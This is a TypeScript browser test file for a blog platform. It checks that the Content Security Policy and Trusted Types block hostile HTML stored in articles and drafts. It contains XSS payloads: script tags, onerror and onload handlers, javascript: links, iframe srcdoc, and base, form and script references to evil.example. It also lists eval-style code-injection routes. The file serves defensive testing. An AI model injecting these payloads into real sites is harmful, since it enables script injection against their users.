import type { Page } from 'playwright-core'
import { beforeAll, expect, test } from 'vitest'
import { expectData } from '../../scripts/lib/client.ts'
import { article, publish, storePage } from '../../scripts/testing/articles.ts'
import { sharedBlog } from '../../scripts/testing/blog.ts'
import { openPage, type PageOptions } from '../../scripts/testing/browser.ts'
import { authorPage, button, field } from '../../scripts/testing/dashboard.ts'
import { createDraft } from '../../shared/drafts.ts'
import { siteConfig } from '../../shared/site.config.ts'

const blog = await sharedBlog({ isBuilt: true })
const imageCdn = `${siteConfig.url}/logo-light.svg`

beforeAll(async () => {
  expectData(
    await blog.author.call(createDraft, { body: article({ headingSave: 'Sketched', imageCdn }) }),
  )
})

const refusals = /Content Security Policy|Trusted|Failed to load|script/i

/** A page where hostile things are tried. @returns which directives refused something, and how often */
const openWatched = async (options: PageOptions = {}) => {
  const page = await openPage(blog.origin, { tolerates: refusals, ...options })
  const seen = new Map<string, number>()
  page.on('console', (message) => {
    const directive = /^Content Security Policy: ([\w-]+) refused /.exec(message.text())?.[1]
    if (directive) seen.set(directive, (seen.get(directive) ?? 0) + 1)
  })
  return { page, seen }
}

const ran = (page: Page) => page.evaluate(() => 'ran' in window || document.title === 'ran')

const hostile = [
  '<script>ran = 1</script>',
  '<script type="module">ran = 1</script>',
  ...[
    '<script src="data:text/javascript,ran=1"></script>',
    '<script src="/logo-light.svg"></script>',
  ],
  '<img src="/nothing.svg" onerror="ran = 1"><svg onload="ran = 1"></svg>',
  '<details open ontoggle="ran = 1"><summary>x</summary></details>',
  '<a id="bad-link" href="javascript:ran=1">Bad link</a>',
  '<iframe src="javascript:parent.ran=1"></iframe><iframe src="/about"></iframe><iframe srcdoc="<script>top.ran=1</script>"></iframe>',
  '<object data="/logo-light.svg"></object><embed src="/logo-light.svg">',
  '<style>h1 { color: red }</style><p id="styled" style="color: rgb(255, 0, 0)">Styled</p>',
  '<link rel="stylesheet" href="data:text/css,p{color:red}"><base href="https://evil.example/">',
  '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA="><video src="/logo-light.svg"></video>',
  '<form action="https://evil.example/take"><button>Send it</button></form>',
].join('\n')

test('hostile HTML in an article of the database runs nothing, shows no style and leads nowhere', async () => {
  const hurt = await publish(blog.author, { headingSave: 'Hurt software', imageCdn })
  await storePage(blog.db, hurt, hostile)
  const { page, seen } = await openWatched()
  expect((await page.goto(`/blog/${hurt}`))?.status()).toBe(200)
  await page.waitForLoadState('networkidle')
  const color = (selector: string) =>
    page.locator(selector).evaluate((element) => getComputedStyle(element).color)
  expect([await color('h1'), await color('#styled')]).not.toContain('rgb(255, 0, 0)')
  expect(await page.evaluate(() => document.baseURI)).toBe(page.url())
  await page.locator('#bad-link').dispatchEvent('click')
  await page.locator('form button:text("Send it")').dispatchEvent('click')
  await expect.poll(() => seen.has('form-action')).toBe(true)
  expect(await ran(page)).toBe(false)
  expect(page.url()).toBe(`${blog.origin}/blog/${hurt}`)
  expect([...seen.keys()].sort()).toEqual([
    'base-uri',
    'form-action',
    'frame-src',
    'img-src',
    'media-src',
    'object-src',
    'script-src-attr',
    'script-src-elem',
    'style-src-attr',
    'style-src-elem',
  ])
})

/** Ways to make code of text; each has to throw or do nothing. */
const ways: Record<string, () => unknown> = {
  eval: () => Reflect.get(window, 'eval')('window.ran = 1'),
  'new Function': () => new Function('window.ran = 1')(),
  setTimeout: () => setTimeout('window.ran = 1' as never),
  innerHTML: () => {
    document.body.innerHTML = '<img src onerror="ran = 1">'
  },
  insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', '<p>hurt</p>'),
  'document.write': () => document.write('<p>hurt</p>'),
  DOMParser: () => new DOMParser().parseFromString('<p>hurt</p>', 'text/html'),
  srcdoc: () => {
    document.createElement('iframe').srcdoc = '<p>hurt</p>'
  },
  'script.src': () => {
    document.createElement('script').src = 'https://evil.example/x.js'
  },
  'script.text': () => {
    document.createElement('script').text = 'window.ran = 1'
  },
  'policy of another name': () =>
    (
      window as unknown as { trustedTypes: { createPolicy: (name: string) => void } }
    ).trustedTypes.createPolicy('mine'),
}

test('hostile HTML in a draft runs nothing on the dashboard, and no text becomes code there or on a reader’s page', async () => {
  const { meta } = await blog.db.prepare('UPDATE drafts SET body = ?1').bind(hostile).run()
  expect(meta.changes).toBe(1)
  const page = await authorPage(blog, { tolerates: refusals })
  await page.goto('/dashboard/drafts')
  await page.locator('.row-menu summary').first().click()
  await page.getByRole('link', { name: 'Preview' }).first().click()
  await page.frameLocator('iframe').getByText('Styled').waitFor()
  expect(await ran(page)).toBe(false)
  await page.goto('/dashboard/drafts')
  await page.getByRole('link', { name: 'Edit' }).first().click()
  await field(page, 'title').waitFor()
  await button(page, 'Preview').click()
  await page.frameLocator('iframe').getByText('Styled').waitFor()
  expect(await ran(page)).toBe(false)

  for (const path of ['/blog', '/dashboard']) {
    await page.goto(path)
    await page.getByRole('heading', { level: 1 }).waitFor()
    for (const [name, way] of Object.entries(ways)) {
      // Later, on the page's own account: what a debugger runs may do what the page may not.
      const outcome = await page.evaluate(
        `new Promise((resolve) => setTimeout(() => {
          try { (${way})(); resolve('done') } catch { resolve('refused') }
        }))`,
      )
      expect([path, name, outcome]).toEqual([path, name, 'refused'])
    }
    expect(await ran(page)).toBe(false)
  }
})
